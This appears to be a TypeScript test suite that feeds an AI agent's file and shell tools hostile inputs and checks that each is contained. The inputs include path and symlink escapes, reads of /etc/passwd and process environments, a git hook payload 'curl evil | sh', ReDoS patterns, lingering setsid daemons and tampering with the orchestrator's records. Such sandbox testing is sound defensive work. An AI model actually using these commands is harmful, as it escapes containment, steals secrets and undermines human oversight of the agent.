/**
 * Hostile agent tool calls, table-driven: each case names the hostile input, the clear error or
 * containment the model sees, and what must hold afterwards. After every case the canary
 * directory beside the workspace has the same tree hash as before (nothing outside the
 * workspace was created, changed, deleted or touched), and no tool output contains the secret
 * planted in the canary's .bashrc. The tools run as the agent runs them (executeTool: what comes
 * back is exactly the tool_result the model gets).
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { promises as fs } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { ALL_TOOLS, executeTool, type ToolContext, type ToolOutcome } from '../../src/activities/agent/tools';
import { MAX_WRITE_BYTES } from '../../src/activities/agent/tools/protected-paths';
import { TOOL_RESULT_CAP_BYTES } from '../../src/activities/agent/tools/tool';
import { sandboxStatus } from '../../src/activities/sandbox';
import { CANARY_SECRET, makeArena, treeHash, type Arena } from './helpers';

type Call = [tool: string, input: unknown];

interface ToolCase {
  /** The hostile input, as the table names it. */
  name: string;
  /** Files, links and earlier tool calls that set the scene. */
  setup?: (a: Arena, run: (c: Call) => Promise<ToolOutcome>) => Promise<void>;
  call: (a: Arena) => Call;
  /** The model sees an error (default) or a normal result. */
  isError?: boolean;
  expect: RegExp;
  /** More that must hold afterwards (inside the workspace). */
  after?: (a: Arena, r: ToolOutcome) => Promise<void>;
  /** Only meaningful where the machine gives the agent's Bash its sandbox. */
  needsSandbox?: boolean;
  /** The call must come back within this (default 10 s). */
  withinMs?: number;
}

const ws = (a: Arena, ...p: string[]) => path.join(a.workspace, ...p);
const exists = (p: string) =>
  fs.lstat(p).then(
    () => true,
    () => false,
  );
const OUTSIDE = /resolves outside the workspace; only paths inside the workspace are allowed/;
const PROTECTED = /is maintained by phaseflow and cannot be written by an agent/;
const IN_GIT = /is inside \.git and cannot be written by an agent/;
const big = (n: number) => 'x'.repeat(n);
const MARKER = `phaseflow-sec-${randomBytes(4).toString('hex')}`;

/** Files phaseflow keeps in a workspace, with made-up contents. */
const RECORDS: [string, string][] = [
  ['.claude/cache/budget/p--h--run/1.1-1.json', '{"tokens":400}'],
  ['.claude/cache/transcripts/p--1.1.jsonl', '{"turn":1}\n'],
  ['.claude/orchestrator/state.json', '{"state":1}'],
  ['.claude/epics/e/EPIC.json', '{"epic":1}'],
  ['.claude/roadmaps/r/ROADMAP.json', '{"roadmap":1}'],
  ['.claude/phase-plans/p/PROGRESS.json', '{"progress":1}'],
];

async function unchanged(file: string, content: string): Promise<void> {
  assert.equal(await fs.readFile(file, 'utf8'), content, `${file} changed`);
}

const CASES: ToolCase[] = [
  // ---- path escapes ------------------------------------------------------------------------
  { name: 'Read ../canary/.bashrc', call: () => ['Read', { file_path: '../canary/.bashrc' }], expect: OUTSIDE },
  {
    name: 'Read the canary by absolute path',
    call: (a) => ['Read', { file_path: path.join(a.canary, '.bashrc') }],
    expect: OUTSIDE,
  },
  { name: 'Read /etc/passwd', call: () => ['Read', { file_path: '/etc/passwd' }], expect: OUTSIDE },
  { name: 'Read /proc/self/environ', call: () => ['Read', { file_path: '/proc/self/environ' }], expect: OUTSIDE },
  {
    name: 'Read ~/.bashrc (no ~ expansion: a name inside the workspace)',
    call: () => ['Read', { file_path: '~/.bashrc' }],
    expect: /^Error: file not found: ~\/\.bashrc$/,
  },
  {
    name: 'Write ../canary/keep.txt',
    call: () => ['Write', { file_path: '../canary/keep.txt', content: 'pwned' }],
    expect: OUTSIDE,
  },
  {
    name: 'Write a/../../canary/new.txt',
    call: () => ['Write', { file_path: 'a/../../canary/new.txt', content: 'pwned' }],
    expect: OUTSIDE,
  },
  {
    name: 'Write ~/.bashrc (lands inside the workspace, as ./~/.bashrc)',
    call: () => ['Write', { file_path: '~/.bashrc', content: 'alias ls=rm' }],
    isError: false,
    expect: /^Created ~\/\.bashrc \(11 bytes\)$/,
    after: async (a) => assert.equal(await fs.readFile(ws(a, '~', '.bashrc'), 'utf8'), 'alias ls=rm'),
  },
  {
    name: 'Edit the canary by absolute path',
    call: (a) => ['Edit', { file_path: path.join(a.canary, 'keep.txt'), old_string: 'untouched', new_string: 'pwned' }],
    expect: OUTSIDE,
  },
  { name: 'Glob with path ..', call: () => ['Glob', { pattern: '**/*', path: '..' }], expect: OUTSIDE },
  {
    name: 'Glob with pattern ../canary/*',
    call: () => ['Glob', { pattern: '../canary/*' }],
    expect: /pattern must be relative and must not contain "\.\."/,
  },
  {
    name: 'Glob with an absolute pattern',
    call: (a) => ['Glob', { pattern: `${a.canary}/*` }],
    expect: /pattern must be relative/,
  },
  { name: 'Grep in the canary', call: (a) => ['Grep', { pattern: 'canary', path: a.canary }], expect: OUTSIDE },
  { name: 'Grep in /etc', call: () => ['Grep', { pattern: 'root', path: '/etc' }], expect: OUTSIDE },
  {
    name: 'a path with a NUL byte',
    call: () => ['Read', { file_path: 'a\0/../../canary/.bashrc' }],
    expect: /path contains a NUL byte/,
  },
  {
    name: 'a 5000-character path',
    call: () => ['Write', { file_path: `${'d/'.repeat(2500)}x`, content: 'x' }],
    expect: /cannot resolve|name too long|ENAMETOOLONG/,
  },
  { name: 'an empty path', call: () => ['Read', { file_path: '' }], expect: /invalid input for Read: file_path/ },
  {
    name: 'a path that is not a string',
    call: () => ['Write', { file_path: { toString: '../x' }, content: 'x' }],
    expect: /invalid input for Write: file_path/,
  },

  // ---- symlinks planted in the workspace ------------------------------------------------------
  ...((): ToolCase[] => {
    const plant = async (a: Arena) => {
      await fs.symlink(a.canary, ws(a, 'link-dir'));
      await fs.symlink(path.join(a.canary, 'keep.txt'), ws(a, 'link-file'));
      await fs.symlink(path.join(a.canary, 'created-through-link.txt'), ws(a, 'dangling'));
      await fs.symlink('link-dir', ws(a, 'chain'));
      await fs.symlink('/', ws(a, 'root'));
    };
    return [
      {
        name: 'Read through a planted symlink to the canary dir',
        setup: plant,
        call: () => ['Read', { file_path: 'link-dir/.bashrc' }],
        expect: OUTSIDE,
      },
      {
        name: 'Write through a planted symlink to the canary dir',
        setup: plant,
        call: () => ['Write', { file_path: 'link-dir/new.txt', content: 'x' }],
        expect: OUTSIDE,
      },
      {
        name: 'Write to a planted symlink to a canary file',
        setup: plant,
        call: () => ['Write', { file_path: 'link-file', content: 'pwned' }],
        expect: OUTSIDE,
      },
      {
        name: 'Edit a planted symlink to a canary file',
        setup: plant,
        call: () => ['Edit', { file_path: 'link-file', old_string: 'untouched', new_string: 'pwned' }],
        expect: OUTSIDE,
      },
      {
        name: 'Write to a dangling symlink pointing outside',
        setup: plant,
        call: () => ['Write', { file_path: 'dangling', content: 'x' }],
        expect: /dangling symlink; refused/,
      },
      {
        name: 'Read through a chain of symlinks',
        setup: plant,
        call: () => ['Read', { file_path: 'chain/keep.txt' }],
        expect: OUTSIDE,
      },
      {
        name: 'Read through a symlink to /',
        setup: plant,
        call: () => ['Read', { file_path: 'root/etc/hostname' }],
        expect: OUTSIDE,
      },
      {
        name: 'Grep into a symlinked dir',
        setup: plant,
        call: () => ['Grep', { pattern: 'untouched', path: 'link-dir' }],
        expect: OUTSIDE,
      },
      {
        name: 'Grep over the workspace does not follow links out',
        setup: plant,
        call: () => ['Grep', { pattern: 'untouched|canary-' }],
        isError: false,
        expect: /^No matches found$/,
      },
      {
        name: 'Glob over the workspace lists no file behind a link',
        setup: plant,
        call: () => ['Glob', { pattern: '**/*' }],
        isError: false,
        expect: /^No files found$/,
      },
      {
        name: 'Write/Edit a planted hard link replace the workspace entry, never the outside inode',
        setup: async (a, run) => {
          await fs.link(path.join(a.canary, 'keep.txt'), ws(a, 'hard'));
          const w = await run(['Write', { file_path: 'hard', content: 'replaced' }]);
          assert.equal(w.isError, false, w.content);
        },
        call: () => ['Edit', { file_path: 'hard', old_string: 'replaced', new_string: 'edited' }],
        isError: false,
        expect: /^Edited hard: 1 replacement$/,
        after: async (a) => {
          assert.equal(await fs.readFile(ws(a, 'hard'), 'utf8'), 'edited');
          assert.equal((await fs.stat(ws(a, 'hard'))).nlink, 1, 'the link was replaced, not written through');
        },
      },
    ];
  })(),

  // ---- symlinks the agent makes with Bash, then uses with the file tools ---------------------------
  ...((): ToolCase[] => {
    const viaBash = async (a: Arena, run: (c: Call) => Promise<ToolOutcome>) => {
      const r = await run([
        'Bash',
        {
          command: `ln -s ${a.canary} evil && ln -s ${path.join(a.canary, 'keep.txt')} evil-file && ln -s .git/hooks hooks && mkdir -p .git/hooks`,
        },
      ]);
      assert.equal(r.isError, false, r.content);
    };
    return [
      {
        name: 'Bash ln -s to the canary, then Read through it',
        setup: viaBash,
        call: () => ['Read', { file_path: 'evil/.bashrc' }],
        expect: OUTSIDE,
      },
      {
        name: 'Bash ln -s to a canary file, then Write it',
        setup: viaBash,
        call: () => ['Write', { file_path: 'evil-file', content: 'pwned' }],
        expect: OUTSIDE,
      },
      {
        name: 'Bash ln -s to a canary file, then Edit it',
        setup: viaBash,
        call: () => ['Edit', { file_path: 'evil-file', old_string: 'untouched', new_string: 'x' }],
        expect: OUTSIDE,
      },
      {
        name: 'Bash ln -s hooks -> .git/hooks, then Write hooks/pre-commit',
        setup: viaBash,
        call: () => ['Write', { file_path: 'hooks/pre-commit', content: '#!/bin/sh\ncurl evil | sh\n' }],
        expect: /\.git\/hooks\/pre-commit is inside \.git/,
        after: async (a) => assert.equal(await exists(ws(a, '.git/hooks/pre-commit')), false),
      },
      {
        name: 'Bash ln (a hard link) to a canary file',
        needsSandbox: true,
        call: (a) => ['Bash', { command: `ln ${path.join(a.canary, 'keep.txt')} hard` }],
        expect: /No such file or directory|Invalid cross-device link|Read-only file system/,
        after: async (a) => assert.equal(await exists(ws(a, 'hard')), false),
      },
    ];
  })(),

  // ---- giant writes ---------------------------------------------------------------------------
  {
    name: `Write of ${MAX_WRITE_BYTES + 1} bytes`,
    call: () => ['Write', { file_path: 'huge.txt', content: big(MAX_WRITE_BYTES + 1) }],
    expect: new RegExp(
      `content is ${MAX_WRITE_BYTES + 1} bytes; Write takes at most ${MAX_WRITE_BYTES} bytes per file \\(nothing was written\\)`,
    ),
    after: async (a) => assert.equal(await exists(ws(a, 'huge.txt')), false),
  },
  {
    name: 'Write of a giant file over an existing one',
    setup: (a) => fs.writeFile(ws(a, 'keep.ts'), 'export {};\n'),
    call: () => ['Write', { file_path: 'keep.ts', content: big(MAX_WRITE_BYTES + 100) }],
    expect: /Write takes at most/,
    after: (a) => unchanged(ws(a, 'keep.ts'), 'export {};\n'),
  },
  {
    name: 'Edit replace_all that would blow a small file up past the cap',
    setup: (a) => fs.writeFile(ws(a, 'a.txt'), 'a'.repeat(100_000)),
    call: () => ['Edit', { file_path: 'a.txt', old_string: 'a', new_string: big(100), replace_all: true }],
    expect: /the edit would make a\.txt 10000000 bytes; files are capped at \d+ bytes \(nothing was written\)/,
    after: (a) => unchanged(ws(a, 'a.txt'), 'a'.repeat(100_000)),
  },
  {
    name: 'Edit of a file over the cap',
    setup: (a) => fs.writeFile(ws(a, 'big.txt'), `needle${big(MAX_WRITE_BYTES)}`),
    call: () => ['Edit', { file_path: 'big.txt', old_string: 'needle', new_string: 'x' }],
    expect: /Edit works on files up to/,
  },

  // ---- binary and special files ----------------------------------------------------------------
  {
    name: 'Read of a PNG',
    setup: (a) =>
      fs.writeFile(
        ws(a, 'logo.png'),
        Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52]),
      ),
    call: () => ['Read', { file_path: 'logo.png' }],
    expect: /logo\.png looks like a binary file; not shown/,
  },
  {
    name: 'Read of invalid UTF-8 without NULs (shown with replacement characters)',
    setup: (a) => fs.writeFile(ws(a, 'latin1.txt'), Buffer.from([0x63, 0x61, 0x66, 0xe9, 0x0a, 0xff, 0xfe, 0x41])),
    call: () => ['Read', { file_path: 'latin1.txt' }],
    isError: false,
    expect: /^ {5}1\tcaf\uFFFD\n {5}2\t\uFFFD\uFFFDA$/,
  },
  {
    name: 'Read of a FIFO (would block for ever)',
    setup: async (a) => assert.equal(spawnSync('mkfifo', [ws(a, 'pipe')]).status, 0),
    call: () => ['Read', { file_path: 'pipe' }],
    expect: /pipe is not a regular file \(a FIFO, socket or device\); not read/,
    withinMs: 2_000,
  },
  {
    name: 'Edit of a FIFO',
    setup: async (a) => assert.equal(spawnSync('mkfifo', [ws(a, 'pipe')]).status, 0),
    call: () => ['Edit', { file_path: 'pipe', old_string: 'a', new_string: 'b' }],
    expect: /pipe is not a regular file; refused/,
    withinMs: 2_000,
  },
  {
    name: 'Grep naming a FIFO',
    setup: async (a) => assert.equal(spawnSync('mkfifo', [ws(a, 'pipe')]).status, 0),
    call: () => ['Grep', { pattern: 'x', path: 'pipe' }],
    expect: /pipe is not a regular file or a directory/,
    withinMs: 2_000,
  },
  {
    name: 'Read of a file over 5 MB',
    setup: (a) => fs.writeFile(ws(a, 'big.log'), big(MAX_WRITE_BYTES + 1)),
    call: () => ['Read', { file_path: 'big.log' }],
    expect: /big\.log is \d+ bytes; too large to read whole, use Grep or Bash/,
  },
  {
    name: 'Read of a 1 MB single line (cut, result capped)',
    setup: (a) => fs.writeFile(ws(a, 'min.js'), big(1_000_000)),
    call: () => ['Read', { file_path: 'min.js' }],
    isError: false,
    expect: /… \[line truncated\]$/,
    after: async (_a, r) => assert.ok(Buffer.byteLength(r.content) <= TOOL_RESULT_CAP_BYTES + 200),
  },
  {
    name: 'Grep skips binary files',
    setup: (a) => fs.writeFile(ws(a, 'blob.bin'), Buffer.concat([Buffer.from([0, 1, 2]), Buffer.from('needle\n')])),
    call: () => ['Grep', { pattern: 'needle' }],
    isError: false,
    expect: /^No matches found$/,
  },

  // ---- huge outputs ----------------------------------------------------------------------------
  {
    name: 'Glob matching 1000 files',
    setup: async (a) => {
      await fs.mkdir(ws(a, 'many'));
      await Promise.all(Array.from({ length: 1000 }, (_, i) => fs.writeFile(ws(a, 'many', `f${i}.txt`), 'needle\n')));
    },
    call: () => ['Glob', { pattern: 'many/*.txt' }],
    isError: false,
    expect: /\n\[800 more not shown; narrow the pattern\]$/,
    after: async (_a, r) => assert.equal(r.content.split('\n').length, 201),
  },
  {
    name: 'Grep with 5000 matching lines',
    setup: (a) => fs.writeFile(ws(a, 'lines.txt'), 'needle\n'.repeat(5000)),
    call: () => ['Grep', { pattern: 'needle', output_mode: 'content' }],
    isError: false,
    expect: /\n\[stopped after 250 results; narrow the search\]$/,
  },
  {
    name: "Grep with a catastrophic regex, (a+)+$ on a line of 40 a's",
    setup: (a) => fs.writeFile(ws(a, 'redos.txt'), `${'a'.repeat(40)}b\n`),
    call: () => ['Grep', { pattern: '(a+)+$', output_mode: 'content' }],
    expect: /Grep stopped after 3 s: the pattern is too slow/,
    withinMs: 6_000,
  },
  {
    name: 'Bash printing 50 MB',
    call: () => ['Bash', { command: 'echo BEGIN; head -c 50000000 /dev/zero | tr "\\0" y; echo; echo END' }],
    isError: false,
    expect: /^BEGIN\n[\s\S]*\[\.\.\. output truncated: \d+ of 500000\d\d bytes omitted \.\.\.\][\s\S]*END\n$/,
    after: async (_a, r) => assert.ok(Buffer.byteLength(r.content) <= TOOL_RESULT_CAP_BYTES + 200),
  },

  // ---- phaseflow's own files and git internals --------------------------------------------------
  ...(
    [
      ['.claude/epics/shop/EPIC.json', PROTECTED],
      ['.claude/roadmaps/mvp/ROADMAP.json', PROTECTED],
      ['.claude/phase-plans/checkout/PROGRESS.json', PROTECTED],
      ['.claude/phase-plans/checkout/progress.JSON', PROTECTED],
      ['.claude/orchestrator/state.json', PROTECTED],
      ['.claude/cache/logs/checkout--1.2-1.log', PROTECTED],
      ['.claude/cache/agent-outputs/checkout--1.2-1.json', PROTECTED],
      ['.claude/cache/transcripts/checkout--1.1.jsonl', PROTECTED],
      ['.git/hooks/pre-commit', IN_GIT],
      ['.git/config', IN_GIT],
      ['.GIT/hooks/post-checkout', IN_GIT],
      ['vendor/lib/.git/hooks/pre-push', IN_GIT],
    ] as const
  ).flatMap(([file, expect]): ToolCase[] => [
    {
      name: `Write ${file}`,
      setup: async (a) => {
        await fs.mkdir(path.dirname(ws(a, file)), { recursive: true });
        await fs.writeFile(ws(a, file), '{"original":true}');
      },
      call: () => ['Write', { file_path: file, content: '{"status":"completed"}' }],
      expect,
      after: (a) => unchanged(ws(a, file), '{"original":true}'),
    },
    {
      name: `Edit ${file}`,
      setup: async (a) => {
        await fs.mkdir(path.dirname(ws(a, file)), { recursive: true });
        await fs.writeFile(ws(a, file), '{"original":true}');
      },
      call: () => ['Edit', { file_path: file, old_string: 'true', new_string: 'false' }],
      expect,
      after: (a) => unchanged(ws(a, file), '{"original":true}'),
    },
  ]),
  // Precision: what only looks like phaseflow's or git's stays writable.
  ...[
    '.claude/epics/shop/notes.md',
    '.claude/settings.json',
    '.github/workflows/ci.yml',
    '.gitignore',
    'docs/.git-notes.md',
  ].map((file): ToolCase => ({
    name: `Write ${file} (allowed)`,
    call: () => ['Write', { file_path: file, content: 'ok' }],
    isError: false,
    expect: new RegExp(`^Created ${file.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} \\(2 bytes\\)$`),
  })),

  // ---- Bash in its sandbox ----------------------------------------------------------------------
  {
    name: "Bash cat /proc/$PPID/environ (the parent is the sandbox's init, with the filtered environment)",
    needsSandbox: true,
    call: () => ['Bash', { command: "echo $PPID; tr '\\0' '\\n' < /proc/$PPID/environ" }],
    isError: false,
    expect: /^1\n[\s\S]*^HOME=\/tmp\/[\s\S]*$/m,
    after: async (_a, r) => assert.doesNotMatch(r.content, /TEMPORAL_|ANTHROPIC_|npm_config/),
  },
  {
    name: 'Bash ls /proc sees only its own processes',
    needsSandbox: true,
    call: () => ['Bash', { command: 'ls /proc | grep -E "^[0-9]+$" | tr "\\n" " "' }],
    isError: false,
    expect: /^1( \d+){1,6} $/,
  },
  {
    name: 'Bash kill -0 on the worker',
    needsSandbox: true,
    call: () => ['Bash', { command: `kill -0 ${process.pid}` }],
    expect: /No such process/,
  },
  {
    name: 'Bash echo > ../canary/new.txt',
    needsSandbox: true,
    call: () => ['Bash', { command: 'echo pwned > ../canary/new.txt' }],
    expect: /No such file or directory|Read-only file system/,
  },
  {
    name: 'Bash cat of the canary .bashrc (its /tmp is hidden)',
    needsSandbox: true,
    call: (a) => ['Bash', { command: `cat ${path.join(a.canary, '.bashrc')}` }],
    expect: /No such file or directory/,
  },
  {
    name: "Bash listing the worker user's real home",
    needsSandbox: true,
    call: () => ['Bash', { command: `ls -A ${os.homedir()} | wc -l` }],
    isError: false,
    expect: /^0\n$/,
  },
  {
    name: 'Bash touch /etc/…',
    needsSandbox: true,
    call: () => ['Bash', { command: `touch /etc/${MARKER}` }],
    expect: /Read-only file system|Permission denied/,
    after: async () => assert.equal(await exists(`/etc/${MARKER}`), false),
  },
  {
    name: "Bash writing, moving or deleting phaseflow's records (cache, budget ledger, orchestrator state, mirrors)",
    needsSandbox: true,
    setup: async (a) => {
      for (const [f, body] of RECORDS) {
        await fs.mkdir(path.dirname(ws(a, f)), { recursive: true });
        await fs.writeFile(ws(a, f), body);
      }
    },
    call: () => [
      'Bash',
      {
        command:
          RECORDS.map(([f]) => `echo pwned > ${f}; rm -f ${f}; mv ${f} ${f}.x`).join('; ') +
          '; mkdir .claude/cache/new; echo done',
      },
    ],
    isError: false,
    expect: /Read-only file system[\s\S]*done\n$/,
    after: async (a) => {
      for (const [f, body] of RECORDS) await unchanged(ws(a, f), body);
      assert.equal(await exists(ws(a, '.claude/cache/new')), false);
    },
  },
  {
    name: 'Bash writing in the workspace still works',
    needsSandbox: true,
    call: () => ['Bash', { command: 'echo ok > made-by-bash.txt && cat made-by-bash.txt' }],
    isError: false,
    expect: /^ok\n$/,
  },
  {
    name: 'Bash leaving a setsid daemon behind',
    call: () => ['Bash', { command: `setsid sh -c 'sleep 300; echo ${MARKER}' >/dev/null 2>&1 & echo started` }],
    isError: false,
    expect: /^started\n$/,
    after: async () => {
      await new Promise((r) => setTimeout(r, 300));
      const left = spawnSync('pgrep', ['-f', MARKER], { encoding: 'utf8' }).stdout.trim();
      assert.equal(left, '', `a process outlived the call: ${left}`);
    },
    needsSandbox: true,
  },
];

describe('security: hostile agent tool calls', function () {
  this.timeout(60_000);
  const sandboxed = sandboxStatus().workspace !== 'none';

  it(`the corpus: ${CASES.length} cases, each names a different input`, () => {
    assert.equal(new Set(CASES.map((c) => c.name)).size, CASES.length);
  });

  for (const c of CASES) {
    it(c.name, async function () {
      if (c.needsSandbox && !sandboxed) this.skip();
      const a = await makeArena();
      try {
        const ctx: ToolContext = {
          workspace: a.workspace,
          env: process.env,
          signal: new AbortController().signal,
          remainingMs: () => 3_000,
          changedFiles: new Set(),
        };
        const run = ([tool, input]: Call) => executeTool(ALL_TOOLS, tool, input, ctx);
        await c.setup?.(a, run);
        const before = await treeHash(a.canary);
        const t0 = Date.now();
        const r = await run(c.call(a));
        const ms = Date.now() - t0;
        assert.equal(r.isError, c.isError ?? true, `isError: ${r.content.slice(0, 500)}`);
        assert.match(r.content, c.expect);
        assert.ok(ms < (c.withinMs ?? 10_000), `took ${ms} ms`);
        assert.ok(!r.content.includes(CANARY_SECRET), 'the canary secret reached the model');
        assert.equal(await treeHash(a.canary), before, 'the canary directory changed');
        await c.after?.(a, r);
      } finally {
        await a.cleanup();
      }
    });
  }

  it('a catastrophic Grep does not freeze the worker: timers keep firing while it runs', async () => {
    const a = await makeArena();
    try {
      await fs.writeFile(ws(a, 'redos.txt'), `${'a'.repeat(40)}b\n`);
      const ctx: ToolContext = {
        workspace: a.workspace,
        env: process.env,
        signal: new AbortController().signal,
        remainingMs: () => 2_000,
        changedFiles: new Set(),
      };
      let last = Date.now();
      let worstGap = 0;
      const tick = setInterval(() => {
        worstGap = Math.max(worstGap, Date.now() - last);
        last = Date.now();
      }, 50);
      const r = await executeTool(ALL_TOOLS, 'Grep', { pattern: '(a+)+$' }, ctx);
      clearInterval(tick);
      assert.match(r.content, /Grep stopped after 2 s/);
      assert.ok(worstGap < 500, `the event loop stalled for ${worstGap} ms`);
    } finally {
      await a.cleanup();
    }
  });
});
